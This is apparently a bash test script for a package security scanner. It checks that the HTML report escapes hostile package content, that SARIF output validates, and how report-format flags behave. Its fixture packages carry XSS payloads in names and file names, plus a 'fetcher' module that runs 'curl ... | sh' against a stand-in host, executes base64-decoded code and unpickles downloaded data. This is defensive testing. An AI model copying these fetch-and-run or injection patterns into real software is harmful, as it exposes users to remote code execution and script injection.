#!/usr/bin/env bash
# The HTML and SARIF reports as their readers meet them:
#   - a wheel whose metadata name, file names, finding snippets and details
#     carry markup and script (<script>, "><img onerror=...>) is scanned to
#     HTML; headless Chromium renders it: the text shows the verdict, the
#     package and every payload as text, the DOM holds no element or
#     attribute the writer did not emit, no script ran, and Chromium
#     reports no Content-Security-Policy violation (the style hash holds);
#   - SARIF from scan and from `download --report` validates against the
#     official SARIF 2.1.0 JSON schema (scripts/fetch-sarif-schema.sh);
#   - --report picks the format from the extension, --report-format wins,
#     a bad one is a usage error before any work;
#   - a screenshot of a realistic report is taken (SP_UPDATE_SCREENSHOT=1
#     writes it to docs/report.png).
# Skips, saying so, only when Chromium is not installed (scripts/deps.sh
# installs it).
# Args: SAFEPIP SOURCE_DIR SCRATCH_DIR
set -uo pipefail
SP=$1 SRC=$2 T=$3
rm -rf "$T" && mkdir -p "$T/home" "$T/idx" "$T/src" && chmod 755 "$T"
fails=0 passes=0
ok() { passes=$((passes + 1)); echo "ok: $*"; }
bad() { fails=$((fails + 1)); echo "FAIL: $*"; }
check() { # rc what
    if [ "$1" -eq 0 ]; then ok "$2"; else bad "$2"; sed 's/^/  | /' "$T/out" | tail -15; fi
}
PY=$(python3 -c 'import sys; print(sys.executable)')
MK() { "$PY" "$SRC/tests/support/mkpkg.py" "$@" || { echo "cannot build $*"; exit 1; }; }

CHROMIUM=
for c in chromium chromium-browser google-chrome; do
    command -v "$c" >/dev/null 2>&1 && { CHROMIUM=$c; break; }
done
if [ -z "$CHROMIUM" ]; then
    echo "SKIP: run-report needs headless Chromium and none is installed;"
    echo "      run scripts/deps.sh (Debian package 'chromium') to run this test"
    exit 77
fi
# One profile for the run, nothing from the user's; no GPU, no sandbox (root, CI).
CHROME=("$CHROMIUM" --headless --no-sandbox --disable-gpu --no-first-run --hide-scrollbars
        --user-data-dir="$T/chrome-profile" --disable-extensions --mute-audio)

# A SARIF validator: the schema, and jsonschema in some python3.
SCHEMA="$SRC/third_party/sarif/sarif-schema-2.1.0.json"
[ -f "$SCHEMA" ] || "$SRC/scripts/fetch-sarif-schema.sh" >"$T/out" 2>&1
VPY=
for p in "$PY" /usr/bin/python3; do
    "$p" -c 'import jsonschema' 2>/dev/null && { VPY=$p; break; }
done
validate() { # file: exit 0 when valid SARIF 2.1.0
    "$VPY" - "$SCHEMA" "$1" <<'PY'
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
doc = json.load(open(sys.argv[2]))
errors = sorted(jsonschema.Draft4Validator(schema).iter_errors(doc), key=lambda e: list(e.path))
for e in errors[:10]:
    print("  %s: %s" % ("/".join(map(str, e.path)), e.message))
sys.exit(1 if errors else 0)
PY
}
if [ ! -f "$SCHEMA" ] || [ -z "$VPY" ]; then
    bad "no SARIF schema or no python3 jsonschema (run scripts/deps.sh)"
    cat "$T/out"
    echo "$passes passed, $fails failed"
    exit 1
fi

# --- packages: a hostile one, a realistic one with findings, a clean one ---
NAME='"><img src=x onerror=alert(5)>'
DIRNAME='<b onmouseover=alert(6)>x'
mkdir -p "$T/src/hostile/hostile/$DIRNAME"
cat >"$T/src/hostile/hostile/__init__.py" <<'PY'
import os
os.system("echo <script>document.title='PWNED'</script>")
PY
cat >"$T/src/hostile/hostile/$DIRNAME/\"><img src=x onerror=alert(4)>.py" <<'PY'
import base64
exec(base64.b64decode("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="))  # <script>alert(1)</script>
PY
HOSTILE=$(MK wheel "$T/src/hostile" "$T/idx" --name "$NAME" --version 1.0)

mkdir -p "$T/src/fetcher/fetcher" "$T/src/tidy/tidy"
cat >"$T/src/fetcher/fetcher/__init__.py" <<'PY'
import os, subprocess, urllib.request, base64, pickle

def update(url):
    data = urllib.request.urlopen(url).read()
    return pickle.loads(data)

def run(cmd):
    return subprocess.call(cmd, shell=True)

os.system("curl -s https://example.invalid/x.sh | sh")
exec(base64.b64decode(b"cHJpbnQoMSk="))
PY
cat >"$T/src/tidy/tidy/__init__.py" <<'PY'
"""Formats things neatly."""
import json


def tidy(obj):
    return json.dumps(obj, indent=2, sort_keys=True)
PY
FETCHER=$(MK wheel "$T/src/fetcher" "$T/idx" --name fetcher --version 2.3.1)
TIDY=$(MK wheel "$T/src/tidy" "$T/idx" --name tidy --version 1.4.0)

# --- HTML: hostile package text stays text ---
"$SP" scan -q --format html -o "$T/hostile.html" --fail-on never "$HOSTILE" >"$T/out" 2>&1
check $? "scan --format html writes the hostile wheel's report"
timeout 120 "${CHROME[@]}" --enable-logging=stderr --v=0 --dump-dom "file://$T/hostile.html" \
    >"$T/dom.html" 2>"$T/chrome.log"
[ -s "$T/dom.html" ]
check $? "chromium renders the report (--dump-dom)"
"$PY" - "$T/dom.html" "$NAME" >"$T/out" 2>&1 <<'PY'
import sys
from html.parser import HTMLParser

EMITTED = {"html", "head", "meta", "title", "style", "body", "input", "header", "h1", "h2",
           "div", "span", "label", "table", "thead", "tbody", "tr", "th", "td", "a", "code",
           "main", "section", "dl", "dt", "dd", "ul", "li", "ol", "pre", "p", "b", "footer"}

class Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.text, self.bad, self.skip, self.title = [], [], 0, ""
        self.intitle = False
    def handle_starttag(self, tag, attrs):
        if tag not in EMITTED:
            self.bad.append("element <%s>" % tag)
        for k, v in attrs:
            if k.startswith("on") or k in ("src", "style", "srcdoc", "data-pwned"):
                self.bad.append("attribute %s=%r on <%s>" % (k, v, tag))
        if tag == "a" and not dict(attrs).get("href", "#").startswith(("#", "https://cwe.mitre.org/")):
            self.bad.append("link %r" % dict(attrs)["href"])
        if tag == "style":
            self.skip += 1
        self.intitle = tag == "title"
    def handle_endtag(self, tag):
        if tag == "style":
            self.skip -= 1
        self.intitle = False
    def handle_data(self, data):
        if self.intitle:
            self.title += data
        if not self.skip:
            self.text.append(data)

p = Page()
p.feed(open(sys.argv[1], encoding="utf-8").read())
text = " ".join(" ".join(p.text).split())
problems = list(p.bad)
# The metadata check refuses the name (metadata-invalid), so the package is
# shown by its file name, which carries the same payload.
for want in ["Verdict block", "metadata-invalid",
             "<script>document.title='PWNED'</script>",
             "# <script>alert(1)</script>",
             "<b onmouseover=alert(6)>x/\"><img src=x onerror=alert(4)>.py",
             sys.argv[2] + "-1.0-py3-none-any.whl",
             "exec-decoded", "os-system", "Why it matters.", "What to do."]:
    if want not in text:
        problems.append("rendered text lacks %r" % want)
if "PWNED" in p.title:
    problems.append("a script ran: title is %r" % p.title)
print("\n".join(problems) or "clean")
sys.exit(1 if problems else 0)
PY
check $? "the DOM has only the report's own elements and shows every payload as text"
cp "$T/chrome.log" "$T/out"
! grep -qi "content security policy\|refused to apply\|refused to load\|refused to execute" \
    "$T/chrome.log"
check $? "chromium reports no Content-Security-Policy violation (the style hash matches)"

# --- SARIF from scan, valid against the official schema ---
"$SP" scan -q --format sarif -o "$T/scan.sarif" --fail-on never "$HOSTILE" "$FETCHER" \
    "$TIDY" "$T/does-not-exist.whl" >"$T/out" 2>&1
[ $? -eq 3 ]
check $? "scan --format sarif with an unreadable target exits 3 and still writes the log"
validate "$T/scan.sarif" >"$T/out" 2>&1
check $? "scan's SARIF validates against the SARIF 2.1.0 schema"
"$PY" - "$T/scan.sarif" >"$T/out" 2>&1 <<'PY'
import json, sys
run = json.load(open(sys.argv[1]))["runs"][0]
rules = [r["id"] for r in run["tool"]["driver"]["rules"]]
arts = run["artifacts"]
assert rules == sorted(set(rules)), rules
assert {"exec-decoded", "os-system"} <= set(rules), rules
for r in run["results"]:
    assert rules[r["ruleIndex"]] == r["ruleId"], r
    loc = r["locations"][0]["physicalLocation"]["artifactLocation"]
    assert arts[loc["index"]]["location"]["uri"] == loc["uri"], loc
    assert len(r["partialFingerprints"]["safepipFinding/v1"]) == 64
verdicts = {a["properties"].get("name"): a["properties"].get("verdict") for a in arts
            if "parentIndex" not in a}
assert verdicts.get("tidy") == "allow" and verdicts.get("fetcher") == "block", verdicts
assert run["invocations"][0]["executionSuccessful"] is False
assert run["properties"]["verdict"] == "block"
paths = {r["properties"].get("path") for r in run["results"]}
assert any(p and "<b onmouseover=alert(6)>x/" in p for p in paths), paths
print("ok")
PY
check $? "SARIF results point at their rules and artifacts; verdicts per artifact"
"$SP" scan -q --format sarif -o "$T/clean.sarif" "$TIDY" >"$T/out" 2>&1
check $? "a clean wheel scans to SARIF with exit 0"
validate "$T/clean.sarif" >"$T/out" 2>&1
check $? "an empty SARIF log validates too"
"$SP" scan --format yaml "$TIDY" >"$T/out" 2>&1
[ $? -eq 2 ] && grep -q "expected text, json, sarif or html" "$T/out"
check $? "scan --format yaml is a usage error naming the formats"

# --- download --report: the format from the extension or --report-format ---
"$PY" "$SRC/tests/support/indexserver.py" --root "$T/idx" --tls "$T/certs" \
    --port-file "$T/port" >"$T/server.log" 2>&1 &
SERVER=$!
trap 'kill $SERVER 2>/dev/null' EXIT
for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.05; done
INDEX="https://127.0.0.1:$(cat "$T/port")/simple"
CLEAN=(env -i "PATH=/usr/bin:/bin" "HOME=$T/home" "SAFEPIP_CACHE_DIR=$T/cache"
       "XDG_STATE_HOME=$T/state")
dl() { "${CLEAN[@]}" "$SP" download -q --cert "$T/certs/ca.pem" -i "$INDEX" -d "$T/dl" "$@" \
    >"$T/out" 2>&1; }
mkdir -p "$T/dl"
dl fetcher tidy --report "$T/dl.sarif"; rc=$?
[ $rc -eq 10 ] && validate "$T/dl.sarif" >>"$T/out" 2>&1
check $? "download --report x.sarif: blocked (exit $rc), and the log is valid SARIF"
dl tidy --report "$T/dl.html"; rc=$?
[ $rc -eq 0 ] && grep -q '<!DOCTYPE html>' "$T/dl.html" && grep -q 'v-allow" id="overall">allow' "$T/dl.html"
check $? "download --report x.html writes HTML with the allow verdict (exit $rc)"
dl tidy --report "$T/dl.out" --report-format sarif; rc=$?
[ $rc -eq 0 ] && "$PY" -c 'import json,sys; assert json.load(open(sys.argv[1]))["version"] == "2.1.0"' "$T/dl.out"
check $? "--report-format sarif wins over the extension (exit $rc)"
dl tidy --report "$T/dl.json"; rc=$?
[ $rc -eq 0 ] && "$PY" -c 'import json,sys; assert json.load(open(sys.argv[1]))["schema"] == 1' "$T/dl.json"
check $? "--report x.json stays the JSON report (exit $rc)"
dl tidy --report "$T/x" --report-format text; rc=$?
[ $rc -eq 2 ] && grep -q "unknown --report-format 'text'" "$T/out" && [ ! -e "$T/x" ]
check $? "--report-format text is a usage error, nothing written (exit $rc)"

# --- the screenshot: a clean package and one with several findings ---
mkdir -p "$T/dist" && cp "$FETCHER" "$TIDY" "$T/dist/"
(cd "$T" && "$SP" scan -q --format html -o real.html --fail-on never \
    "dist/$(basename "$FETCHER")" "dist/$(basename "$TIDY")") >"$T/out" 2>&1
check $? "scan of a realistic pair to HTML"
timeout 120 "${CHROME[@]}" --window-size=1100,1500 --screenshot="$T/report.png" \
    "file://$T/real.html" >"$T/out" 2>&1
"$PY" -c 'import sys; d=open(sys.argv[1],"rb").read(); sys.exit(0 if d[:8]==b"\x89PNG\r\n\x1a\n" and len(d)>20000 else 1)' "$T/report.png"
check $? "chromium takes a screenshot of the report"
# A phone-sized window (390 px) renders too; its screenshot stays in the scratch directory.
timeout 120 "${CHROME[@]}" --window-size=390,900 --screenshot="$T/phone.png" \
    "file://$T/real.html" >"$T/out" 2>&1
[ -s "$T/phone.png" ]
check $? "chromium renders a phone-sized screenshot"
if [ "${SP_UPDATE_SCREENSHOT:-}" = 1 ]; then
    cp "$T/report.png" "$SRC/docs/report.png" && echo "updated docs/report.png"
fi

echo "$passes passed, $fails failed"
[ "$fails" -eq 0 ]
